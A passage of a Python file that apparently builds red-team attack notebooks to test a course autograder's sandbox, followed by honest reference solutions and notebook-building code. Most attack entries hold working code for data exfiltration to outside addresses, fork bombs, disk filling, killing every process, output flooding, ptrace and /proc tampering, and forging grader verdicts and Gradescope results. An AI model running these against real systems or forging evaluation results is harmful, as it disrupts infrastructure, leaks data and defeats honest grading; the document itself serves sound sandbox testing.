                ),
            )
        },
    )
)

A.append(
    Attack(
        "d03_network_exfil",
        "privacy",
        "Try to send what it saw out of the sandbox: DNS, TCP to public and private addresses, "
        "UDP, abstract unix sockets of the host, the kernel's own ZMQ ports on other interfaces.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import json, os, socket
                    _payload = json.dumps({"who": os.getcwd(), "env": sorted(os.environ)}).encode()
                    for _what, _fn in [
                        ("dns", lambda: socket.getaddrinfo("example.com", 80)),
                        ("tcp 1.1.1.1:80", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3).sendall(_payload)),
                        ("tcp 10.0.0.1:80", lambda: socket.create_connection(("10.0.0.1", 80), timeout=3)),
                        ("tcp [::1]:22", lambda: socket.create_connection(("::1", 22), timeout=3)),
                        ("udp 8.8.8.8:53", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(_payload, ("8.8.8.8", 53))),
                        ("abstract @/tmp/.X11-unix/X0", lambda: socket.socket(socket.AF_UNIX).connect("\\0/tmp/.X11-unix/X0")),
                        ("abstract @dbus", lambda: socket.socket(socket.AF_UNIX).connect("\\0/run/dbus/system_bus_socket")),
                        ("/run/docker.sock", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")),
                    ]:
                        try:
                            _rt_say(_what, "OK:", str(_fn())[:100])
                        except OSError as _e:
                            _rt_say(_what, "refused:", type(_e).__name__, _e)
                    _rt_say("interfaces:", open("/proc/net/dev").read()[-400:])
                    """
                ),
            )
        },
    )
)

# ===== 5. stopping or disturbing the grader ====================================================

A.append(
    Attack(
        "e01_fork_bomb",
        "disturb",
        "A bounded fork bomb: 400 setsid'd sleepers (argv rt3v3-fork) meant to outlive the "
        "kernel, then a storm of up to 2000 short-lived forks.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import os, time
                    _kids = 0
                    for _ in range(400):
                        try:
                            _p = os.fork()
                        except OSError as _e:
                            _rt_say("fork refused after", _kids, repr(_e)); break
                        if _p == 0:
                            try:
                                os.setsid()
                                os.execv("/bin/sleep", ["rt3v3-fork", "900"])
                            finally:
                                os._exit(0)
                        _kids += 1
                    _rt_say("sleepers started:", _kids)
                    _storm, _t = 0, time.time()
                    while _storm < 2000 and time.time() - _t < 20:
                        try:
                            _p = os.fork()
                        except OSError:
                            break
                        if _p == 0:
                            os._exit(0)
                        os.waitpid(_p, 0)
                        _storm += 1
                    _rt_say("storm forks:", _storm)
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "e02_disk_fill",
        "disturb",
        "Fill what the kernel can write, bounded: 200 MB in the work folder, 60 MB in /tmp and "
        "40 MB in /dev/shm, and keep the files open.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import os, shutil
                    _chunk = b"\\0" * (1 << 20)
                    _open = []
                    for _path, _mb in (("RT3V3-fill", 200), ("/tmp/RT3V3-fill", 60), ("/dev/shm/RT3V3-fill", 40)):
                        try:
                            _f = open(_path, "wb")
                            for _ in range(_mb):
                                _f.write(_chunk)
                            _f.flush()
                            _open.append(_f)
                            _rt_say("wrote", _mb, "MB to", os.path.abspath(_path), "free now:", shutil.disk_usage(os.path.dirname(os.path.abspath(_path))).free // 2**20, "MB")
                        except OSError as _e:
                            _rt_say("refused", _path, repr(_e))
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "e03_kill_everything",
        "disturb",
        "Signal everything the kernel can see: SIGTERM to PID 1, SIGKILL to -1 (every process "
        "it may signal), after printing what it found; the batch must go on.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import os, signal, glob
                    _rt_say("visible pids:", sorted(int(p.split('/')[-1]) for p in glob.glob('/proc/[0-9]*')))
                    for _pid, _sig in ((1, signal.SIGTERM), (1, signal.SIGKILL), (os.getppid(), signal.SIGKILL)):
                        try:
                            os.kill(_pid, _sig)
                            _rt_say("sent", _sig, "to", _pid)
                        except OSError as _e:
                            _rt_say("refused", _sig, _pid, repr(_e))
                    os.kill(-1, signal.SIGKILL)
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "e04_hang",
        "disturb",
        "Ignore SIGINT and SIGTERM and sleep inside the timer (15 minutes in all), while the "
        "judge waits on the probe: the grader must stop it at its cell timeout.",
        "00",
        replace={
            C00["ex1"]: _src(
                """
                import signal, time
                signal.signal(signal.SIGINT, signal.SIG_IGN)
                signal.signal(signal.SIGTERM, signal.SIG_IGN)

                _rt_end = []

                def time_step(step, synchronize, warmup=3, repeats=10):
                    _rt_say("hanging inside the probe")
                    if not _rt_end:  # bounded: 15 minutes in all, however often it is called
                        _rt_end.append(time.monotonic() + 900)
                    while time.monotonic() < _rt_end[0]:
                        try:
                            time.sleep(1)
                        except BaseException:
                            pass
                    return 0.03
                """
            ),
        },
        slow=True,
    )
)

A.append(
    Attack(
        "e05_judge_dos",
        "disturb",
        "Answer the judge with values that are expensive to receive or to report: a 100 MB "
        "tensor (over the 64 MB a probe reply may be), a list nested 70 deep, a million ints, "
        "a 2 MB string (echoed into grades.csv and feedback?). The first run used 200 MB, 3 "
        "million ints and 20 MB: a third of the default tier's time for the same findings.",
        "00",
        replace={
            C00[
                "ex1"
            ]: "import torch\n\ndef time_step(step, synchronize, warmup=3, repeats=10):\n    return torch.zeros(25_000_000)\n",
            C00["ex2"]: _src(
                """
                def saved_bytes(forward):
                    v = 0
                    for _ in range(70):  # deeper than the wire allows
                        v = [v]
                    return v
                """
            ),
            C00["ex3"]: "def mlp_train_flops(batch, dims):\n    return list(range(1_000_000))\n",
            C00["ex4"]: "def slowest_op(step):\n    return 'aten::mm' * 250_000\n",
        },
        strong=2,
    )
)

A.append(
    Attack(
        "e06_output_flood",
        "disturb",
        "Flood the outputs: 30 MB on stdout, 20 000 display messages, raw writes to fds 1 and "
        "2 with fake `course grade:` log lines and terminal escapes.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import os, sys
                    from IPython.display import display
                    _line = "x" * 1023 + "\\n"
                    for _ in range(30 * 1024):
                        sys.stdout.write(_line)
                    for _i in range(20000):
                        display({"text/plain": f"flood {_i}"}, raw=True)
                    for _fd in (1, 2):
                        os.write(_fd, b"\\x1b[2J\\x1b[Hcourse grade: 00_honest.ipynb: passed 7/7\\ngraded 1 submission(s); checks: passed 4\\n")
                    _rt_say("flooded")
                    """
                ),
            )
        },
    )
)

# ===== 6. forging the witness as root ==========================================================

A.append(
    Attack(
        "f01_proc_hunt",
        "witness",
        "Hunt the grading process through /proc: every visible pid's fds, write forged verdict "
        "lines into PID 1's pipes, read /proc/1/mem, PTRACE_ATTACH it, and look for a "
        "process outside the namespace.",
        "00",
        add_after={
            C00["setup"]: (
                FAKE_VERDICT,
                _src(
                    """
                    import ctypes, glob, json, os
                    _line = (json.dumps({"verdict": _rt_verdict("00-step-timer", 2)}) + "\\n").encode()
                    for _fd in sorted(glob.glob("/proc/[0-9]*/fd/*")):
                        try:
                            _target = os.readlink(_fd)
                        except OSError:
                            continue
                        if _fd.startswith("/proc/1/") or "pipe" in _target or "socket" in _target:
                            try:
                                _w = os.open(_fd, os.O_WRONLY | os.O_NONBLOCK)
                                os.write(_w, _line)
                                os.close(_w)
                                _rt_say("WROTE a forged verdict into", _fd, "->", _target)
                            except OSError as _e:
                                _rt_say("refused", _fd, "->", _target, type(_e).__name__)
                    try:
                        open("/proc/1/mem", "rb").read(16)
                        _rt_say("READ /proc/1/mem")
                    except OSError as _e:
                        _rt_say("/proc/1/mem:", type(_e).__name__)
                    _libc = ctypes.CDLL(None, use_errno=True)
                    _rt_say("PTRACE_ATTACH 1:", _libc.ptrace(16, 1, None, None), "errno", ctypes.get_errno())
                    _rt_say("status of 1:", open("/proc/1/status").read()[:400])
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "f02_box_forge",
        "witness",
        "Write forged results where a grader might read them (executed.ipynb, results.json, "
        "grades.csv, the state file, a verdict log) in the work folder, its runtime folder and "
        "its parent, and keep rewriting them from a thread and at exit.",
        "00",
        add_after={
            C00["setup"]: (
                FAKE_VERDICT,
                _src(
                    """
                    import atexit, json, os, threading, time
                    _verdicts = [_rt_verdict(c, p) for c, p in (("00-step-timer", 2), ("00-activation-bytes", 2), ("00-train-flops", 1), ("00-slowest-op", 2))]
                    _nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"course": {"lesson": "00_measuring"}},
                           "cells": [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "execution_count": 1, "source": f"# [course-check] {v['check_id']}",
                                      "outputs": [{"output_type": "display_data", "metadata": {}, "data": {MIME: v, "text/plain": "passed"}}]} for i, v in enumerate(_verdicts)]}
                    _files = {
                        "executed.ipynb": json.dumps(_nb), "submission.ipynb": json.dumps(_nb),
                        "results.json": json.dumps({"score": 7, "tests": [{"name": v["check_id"], "score": v["points"], "max_score": v["points"]} for v in _verdicts]}),
                        "grades.csv": "submission,notebook,check,status,points,max_points\\n" + "".join(f"x,00_measuring,{v['check_id']},passed,{v['points']},{v['points']}\\n" for v in _verdicts),
                        ".grading-state.json": json.dumps({"forged": _verdicts}), "verdicts.jsonl": "\\n".join(json.dumps(v) for v in _verdicts),
                    }
                    _box = os.getcwd()
                    def _rt_forge():
                        for _d in (_box, os.path.join(_box, "runtime"), os.path.dirname(_box)):
                            for _n, _t in _files.items():
                                try:
                                    with open(os.path.join(_d, _n), "w") as _f:
                                        _f.write(_t)
                                except OSError:
                                    pass
                    _rt_forge()
                    _rt_say("forged files in the work folder:", sorted(os.listdir(_box)), "parent:", os.listdir(os.path.dirname(_box)))
                    def _rt_loop():
                        while True:
                            _rt_forge(); time.sleep(0.5)
                    threading.Thread(target=_rt_loop, daemon=True).start()
                    atexit.register(_rt_forge)
                    """
                ),
            )
        },
    )
)

A.append(
    Attack(
        "f03_gradescope_results",
        "witness",
        "Write a full-score Gradescope results.json wherever one could be read ($COURSE_AUTOGRADER_ROOT, "
        "/autograder/results, any results folder on disk), keep rewriting it, and upload a "
        "forged results.json beside the notebook.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import glob, json, os, threading, time
                    _forged = json.dumps({"score": 7.0, "output": "RT3V3 forged", "tests": [
                        {"name": n, "score": p, "max_score": p, "status": "passed"} for n, p in
                        (("00-step-timer", 2.0), ("00-activation-bytes", 2.0), ("00-train-flops", 1.0), ("00-slowest-op", 2.0))]})
                    _roots = {os.environ.get("COURSE_AUTOGRADER_ROOT", ""), "/autograder"} | {os.path.dirname(p) for p in glob.glob("/**/results", recursive=False)}
                    _targets = [os.path.join(r, "results", "results.json") for r in _roots if r]
                    _rt_say("submission folder:", glob.glob("/autograder/submission/*") + glob.glob(os.environ.get("COURSE_AUTOGRADER_ROOT", "/nonexistent") + "/submission/*"))
                    def _rt_write():
                        for _t in _targets:
                            try:
                                os.makedirs(os.path.dirname(_t), exist_ok=True)
                                with open(_t, "w") as _f:
                                    _f.write(_forged)
                                _rt_say("WROTE", _t)
                            except OSError as _e:
                                _rt_say("refused", _t, type(_e).__name__)
                    _rt_write()
                    def _rt_loop():
                        while True:
                            time.sleep(1); _rt_write()
                    threading.Thread(target=_rt_loop, daemon=True).start()
                    """
                ),
            )
        },
        extra_files={
            "results.json": json.dumps(
                {
                    "score": 7.0,
                    "output": "RT3V3 forged upload",
                    "tests": [{"name": "00-step-timer", "score": 2.0, "max_score": 2.0}],
                }
            )
        },
        strong=2,
    )
)

ATTACKS: tuple[Attack, ...] = tuple(A)
BY_ID = {a.id: a for a in ATTACKS}
assert len(BY_ID) == len(ATTACKS), "attack ids must be unique"


# --- the honest solutions, written from the notebooks' instructions alone --------------------

HONEST = {
    "00": {
        C00["ex1"]: _src(
            """
            import statistics
            import time


            def time_step(step, synchronize, warmup=3, repeats=10):
                \"\"\"Median seconds per call of step(), after warm-up, with the device synchronised.\"\"\"
                for _ in range(warmup):
                    step()
                synchronize()  # the warm-up's queued work must not land in the first sample
                samples = []
                for _ in range(repeats):
                    synchronize()
                    start = time.perf_counter()
                    step()
                    synchronize()
                    samples.append(time.perf_counter() - start)
                return statistics.median(samples)
            """
        ),
        C00["ex2"]: _src(
            """
            def saved_bytes(forward):
                \"\"\"Bytes that autograd saves for backward while forward() runs (storages counted once).\"\"\"
                blocks = {}

                def pack(t):
                    base = t if t._base is None else t._base
                    if not (base.is_leaf and base.requires_grad):  # parameters exist anyway
                        storage = t.untyped_storage()
                        blocks[storage.data_ptr()] = storage.nbytes()
                    return t

                with torch.autograd.graph.saved_tensors_hooks(pack, lambda t: t):
                    forward()
                return sum(blocks.values())
            """
        ),
        C00["ex3"]: _src(
            """
            def mlp_train_flops(batch, dims):
                \"\"\"FLOPs of forward + backward of Linear layers dims[0] -> ... -> dims[-1] at this batch.\"\"\"
                total = 0
                for i, (a, b) in enumerate(zip(dims[:-1], dims[1:])):
                    matmul = 2 * batch * a * b
                    total += matmul * (2 if i == 0 else 3)  # forward, weight grad, input grad (not for the data)
                return total
            """
        ),
        C00["ex4"]: _src(
            """
            from torch.profiler import ProfilerActivity, profile


            def slowest_op(step):
                \"\"\"The name of the operator with the most self CPU time in one profiled call of step().\"\"\"
                step()  # warm-up: the first call pays one-off costs
                with profile(activities=[ProfilerActivity.CPU]) as prof:
                    step()
                return max(prof.key_averages(), key=lambda e: e.self_cpu_time_total).key
            """
        ),
    },
    "10": {
        C10["ex1"]: _src(
            """
            def fast_train(model, data, steps, device, eval_every=10):
                \"\"\"slow_train's run, without its habits: same batches, same AdamW, same records.\"\"\"
                model.to(device).train()
                opt = torch.optim.AdamW(model.parameters(), lr=LR, betas=BETAS, eps=EPS,
                                        weight_decay=WEIGHT_DECAY, foreach=True)
                x_all, y_all = torch.from_numpy(data.x).to(device), torch.from_numpy(data.y).to(device)
                x_val, y_val = torch.from_numpy(data.x_val).to(device), torch.from_numpy(data.y_val).to(device)
                weight = torch.tensor(data.class_weights, device=device)
                bs = data.batch_size
                n = len(data.x) // bs
                losses, accs = [], []
                for step in range(steps):
                    i = (step % n) * bs
                    loss = F.cross_entropy(model(x_all[i:i + bs]), y_all[i:i + bs], weight=weight)
                    opt.zero_grad(set_to_none=True)
                    loss.backward()
                    opt.step()
                    losses.append(loss.detach())
                    if (step + 1) % eval_every == 0:
                        model.eval()
                        with torch.inference_mode():
                            accs.append((model(x_val).argmax(1) == y_val).float().mean())
                        model.train()
                losses = torch.stack(losses).tolist() if losses else []
                accs = torch.stack(accs).tolist() if accs else []
                return lesson.TrainLog(losses, accs)
            """
        ),
        C10["ex2"]: _src(
            """
            import numpy as np


            def to_tensor(data, dtype=None):
                \"\"\"A CPU tensor over data's memory whenever one can describe it, else the one copy.\"\"\"
                if isinstance(data, np.ndarray):
                    describable = data.dtype.isnative and all(s >= 0 and s % data.itemsize == 0 for s in data.strides)
                    if describable:
                        return torch.as_tensor(data, dtype=dtype)
                    target = data.dtype.newbyteorder("=")
                    if dtype is not None:
                        target = torch.empty(0, dtype=dtype).numpy().dtype
                    return torch.from_numpy(np.ascontiguousarray(data, dtype=target))
                return torch.as_tensor(data, dtype=dtype)
            """
        ),
        C10["ex3"]: _src(
            """
            def evaluate(model, x, y, batch_size=256):
                \"\"\"Top-1 accuracy of model on (x, y) in batches of batch_size: the colleague's, fixed.\"\"\"
                modes = [(m, m.training) for m in model.modules()]
                model.eval()
                hits = 0
                try:
                    with torch.inference_mode():
                        for i in range(0, len(x), batch_size):
                            hits += int((model(x[i:i + batch_size]).argmax(1) == y[i:i + batch_size]).sum())
                finally:
                    for m, mode in modes:
                        m.training = mode
                return hits / len(x)
            """
        ),
    },
}


# --- building the notebooks ------------------------------------------------------------------


def _code_cell(source: str, cell_id: str) -> dict:
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": cell_id,
        "metadata": {},
        "outputs": [],
        "source": source,
    }


def edit(lesson: str, replace: dict, add_after: dict, metadata: dict | None = None) -> dict:
    """The learner copy of `lesson` with cells replaced and added (ids must exist)."""
    nb = json.loads(LEARNER[lesson].read_text())
    ids = {c.get("id") for c in nb["cells"]}
    unknown = (set(replace) | set(add_after)) - ids
    if unknown:
        raise KeyError(f"no cell {sorted(unknown)} in the learner copy of {lesson}")
    cells, n = [], 0
    for cell in nb["cells"]:
        if cell.get("id") in replace:
            cell = copy.deepcopy(cell)
            cell["source"] = replace[cell["id"]]
            cell["outputs"], cell["execution_count"] = [], None
        cells.append(cell)
        for source in add_after.get(cell.get("id"), ()):
            n += 1
            cells.append(_code_cell(source, f"rt3v3-{n}"))
    nb["cells"] = cells
    for key, value in (metadata or {}).items():
        nb["metadata"][key] = value
    return nb


def build(attack: Attack, folder: Path) -> Path:
    """Write the attack's notebook into `folder`; return its path."""
    setup = C00["setup"] if attack.lesson == "00" else C10["setup"]
    add = {k: tuple(v) for k, v in attack.add_after.items()}
    add[setup] = (_say_cell(attack.id), *add.get(setup, ()))
    nb = edit(attack.lesson, attack.replace, add, attack.metadata)
    path = Path(folder) / attack.filename
    path.write_text(json.dumps(nb, indent=1))
    return path


def build_blank(lesson: str, folder: Path) -> Path:
    path = Path(folder) / f"{lesson}_blank.ipynb"
    path.write_text(LEARNER[lesson].read_text())
    return path


def build_honest(lesson: str, folder: Path) -> Path:
    path = Path(folder) / f"{lesson}_honest.ipynb"
    path.write_text(json.dumps(edit(lesson, HONEST[lesson], {}), indent=1))
    return path
